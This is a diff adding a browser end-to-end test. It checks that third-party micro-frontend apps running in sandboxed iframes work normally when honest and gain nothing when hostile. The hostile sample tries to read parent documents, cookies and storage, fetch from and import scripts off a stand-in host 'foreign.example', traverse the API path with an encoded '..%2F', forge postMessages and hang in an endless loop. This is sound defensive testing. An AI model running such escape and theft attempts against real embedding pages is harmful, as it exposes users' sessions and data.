@@ -1,0 +1,137 @@
+// Apps of others run in a frame without an origin: an honest one works as on the page, a hostile one gains nothing.
+
+import assert from "node:assert/strict";
+import { CHROMIUM, FLAGS } from "../../scripts/setup/browser.mjs";
+import { accessible, account } from "./support/browser.mjs";
+import { test, withProduct } from "./support/test.mjs";
+import { waitUntil } from "./support/wait-until.mjs";
+
+// As browsers on desks are: small machines put all frames of a page into one process.
+test.use({ launchOptions: { executablePath: CHROMIUM, args: [...FLAGS, "--site-per-process"] } });
+
+withProduct({
+  config: {
+    microFrontends: {
+      directory: { url: "/apps/directory/index.js", title: "Directory", isolated: true },
+      reports: { url: "/apps/hostile/index.js", title: "Hostile", isolated: true, stores: ["Documents"] },
+    },
+  },
+});
+
+const COMPANY = "Nordlicht Energie";
+const inFrame = (page) => page.frameLocator(".app-frame");
+
+test("an app that the page would run runs in its frame: calls, address, language, look and height", async ({
+  visit,
+}) => {
+  const visitor = await visit({ viewport: { width: 1440, height: 900 } });
+  const tab = await visitor.inside(account("anna"), COMPANY, "/");
+  await tab.goto("/directory");
+  const frame = inFrame(tab);
+  await frame.getByRole("heading", { name: "Anna Müller" }).waitFor();
+  await frame.getByRole("searchbox", { name: "Nach Namen suchen" }).fill("björn");
+  await tab.waitForURL("/directory?search=bj%C3%B6rn");
+  await frame.getByRole("heading", { name: "Björn Strauß" }).waitFor();
+  await waitUntil(() => frame.getByRole("heading", { name: "Anna Müller" }).count(), 0);
+  await tab.reload();
+  await waitUntil(() => frame.getByRole("searchbox").inputValue(), "björn");
+  await tab.evaluate(() => document.documentElement.setAttribute("data-theme", "dark"));
+  await waitUntil(() => frame.locator("html").getAttribute("data-theme"), "dark");
+  const [outer, inner] = [tab.locator(".app-frame"), frame.locator("html")];
+  await waitUntil(
+    async () => (await outer.boundingBox()).height >= (await inner.evaluate((root) => root.offsetHeight)),
+    true,
+  );
+  await accessible(tab);
+  // What looks for findings asks for the style sheets of the frame, which may ask for nothing.
+  visitor.complaints = visitor.complaints.filter((complaint) => !complaint.includes("/apps/frame.css"));
+  await visitor.end();
+});
+
+/** What a thief tries; each says `refused` or what it got. */
+const THEFT = `
+  const within = (act) => { try { const got = act(); return got === undefined ? "refused" : "got " + got; } catch { return "refused"; } };
+  const later = (act) => Promise.race([Promise.resolve().then(act).then(() => "got", () => "refused"), new Promise((end) => setTimeout(end, 3000, "silent"))]);
+  const loads = (made, name, address) => later(() => new Promise((resolve, reject) => {
+    Object.assign(made, { onload: resolve, onerror: reject, [name]: address });
+    document.body.append(made);
+  }));
+  const ours = context.navigation.base && "/api/user/me";
+  const tries = {
+    parent: within(() => parent.document.title),
+    top: within(() => top.location.href),
+    sibling: within(() => parent.frames.length && parent.frames[0].parent.document.cookie),
+    cookie: within(() => document.cookie),
+    local: within(() => localStorage.length),
+    session: within(() => sessionStorage.length),
+    navigate: within(() => { top.location = "https://foreign.example/"; }),
+    popup: within(() => open("https://foreign.example/") ?? undefined),
+    database: await later(() => new Promise((resolve, reject) => { const asked = indexedDB.open("x"); asked.onsuccess = resolve; asked.onerror = reject; })),
+    caches: await later(() => caches.keys()),
+    own: await later(() => fetch(ours)),
+    foreign: await later(() => fetch("https://foreign.example/a")),
+    script: await later(() => import("https://foreign.example/b.js")),
+    picture: await loads(new Image(), "src", "https://foreign.example/c.png"),
+    elsewhere: await later(() => context.api("/../user/me")),
+    encoded: await later(() => context.api("/..%2Fuser/me")),
+    store: await later(() => context.stores.get("User", "me")),
+  };
+  // What another window would say, what was said before, and what nobody says.
+  for (const message of [{ kind: "mounted" }, { kind: "height", height: 19000 }, { kind: "toast", tone: "info", title: "Forged" }, { kind: "bot-check", token: "x" }]) {
+    parent.postMessage(message, "*");
+    parent.postMessage(message, "*");
+  }
+  title.textContent = Object.entries(tries).filter(([, told]) => told !== "refused").map(([name, told]) => name + ": " + told).join(", ") || "Nothing was got";`;
+
+const hostile = `
+  export const contract = 1;
+  export async function mount(element, context) {
+    const title = document.createElement("h1");
+    element.append(title);
+    ${THEFT}
+    const path = context.navigation.path();
+    if (path === "/loop") setTimeout(() => { for (;;); }, 100);
+    if (path === "/leave") setTimeout(() => { location.href = "https://foreign.example/d"; }, 100);
+  }
+  export function unmount() {}
+  export const router = { navigate() {} };`;
+
+test("a hostile one reads nothing, reaches nobody, forges nothing, and an endless loop in it stops nobody else", async ({
+  visit,
+}) => {
+  const visitor = await visit({ viewport: { width: 1440, height: 900 } });
+  const reached = [];
+  await visitor.context.route("https://foreign.example/**", (route) => {
+    reached.push(route.request().url());
+    return route.abort();
+  });
+  await visitor.context.route("**/apps/hostile/**", (route) =>
+    route.fulfill({
+      contentType: "text/javascript",
+      body: hostile,
+      headers: { "access-control-allow-origin": "*" },
+    }),
+  );
+  const page = await visitor.inside(account("anna"), COMPANY, "/");
+  await page.goto("/reports");
+  await inFrame(page).getByRole("heading", { name: "Nothing was got" }).waitFor();
+  await waitUntil(() => page.getByText("Forged").count(), 0);
+  assert.ok((await page.locator(".app-frame").boundingBox()).height < 5_000);
+  assert.deepEqual([reached, visitor.context.pages().length], [[], 1]);
+
+  await page.goto("/reports/leave");
+  await page.getByRole("heading", { name: "Berichte lässt sich gerade nicht anzeigen" }).waitFor();
+  assert.deepEqual(reached, []);
+
+  await page.goto("/reports/loop");
+  await page.waitForFunction(() => document.querySelector(".app-place:not([hidden]) .app-frame"));
+  // The loop runs by now, or soon: whichever, the shell opens menus and leads elsewhere.
+  await page.getByRole("button", { name: /^Konto von/ }).click();
+  await page.getByRole("menuitem", { name: "Mein Konto" }).click();
+  await page.waitForURL("/account");
+  await page.getByRole("heading", { level: 1 }).waitFor();
+  await waitUntil(() => page.locator(".app-frame").count(), 0);
+  // What the browser refused, and that the app failed.
+  visitor.complaints = [];
+  await visitor.end();
+});
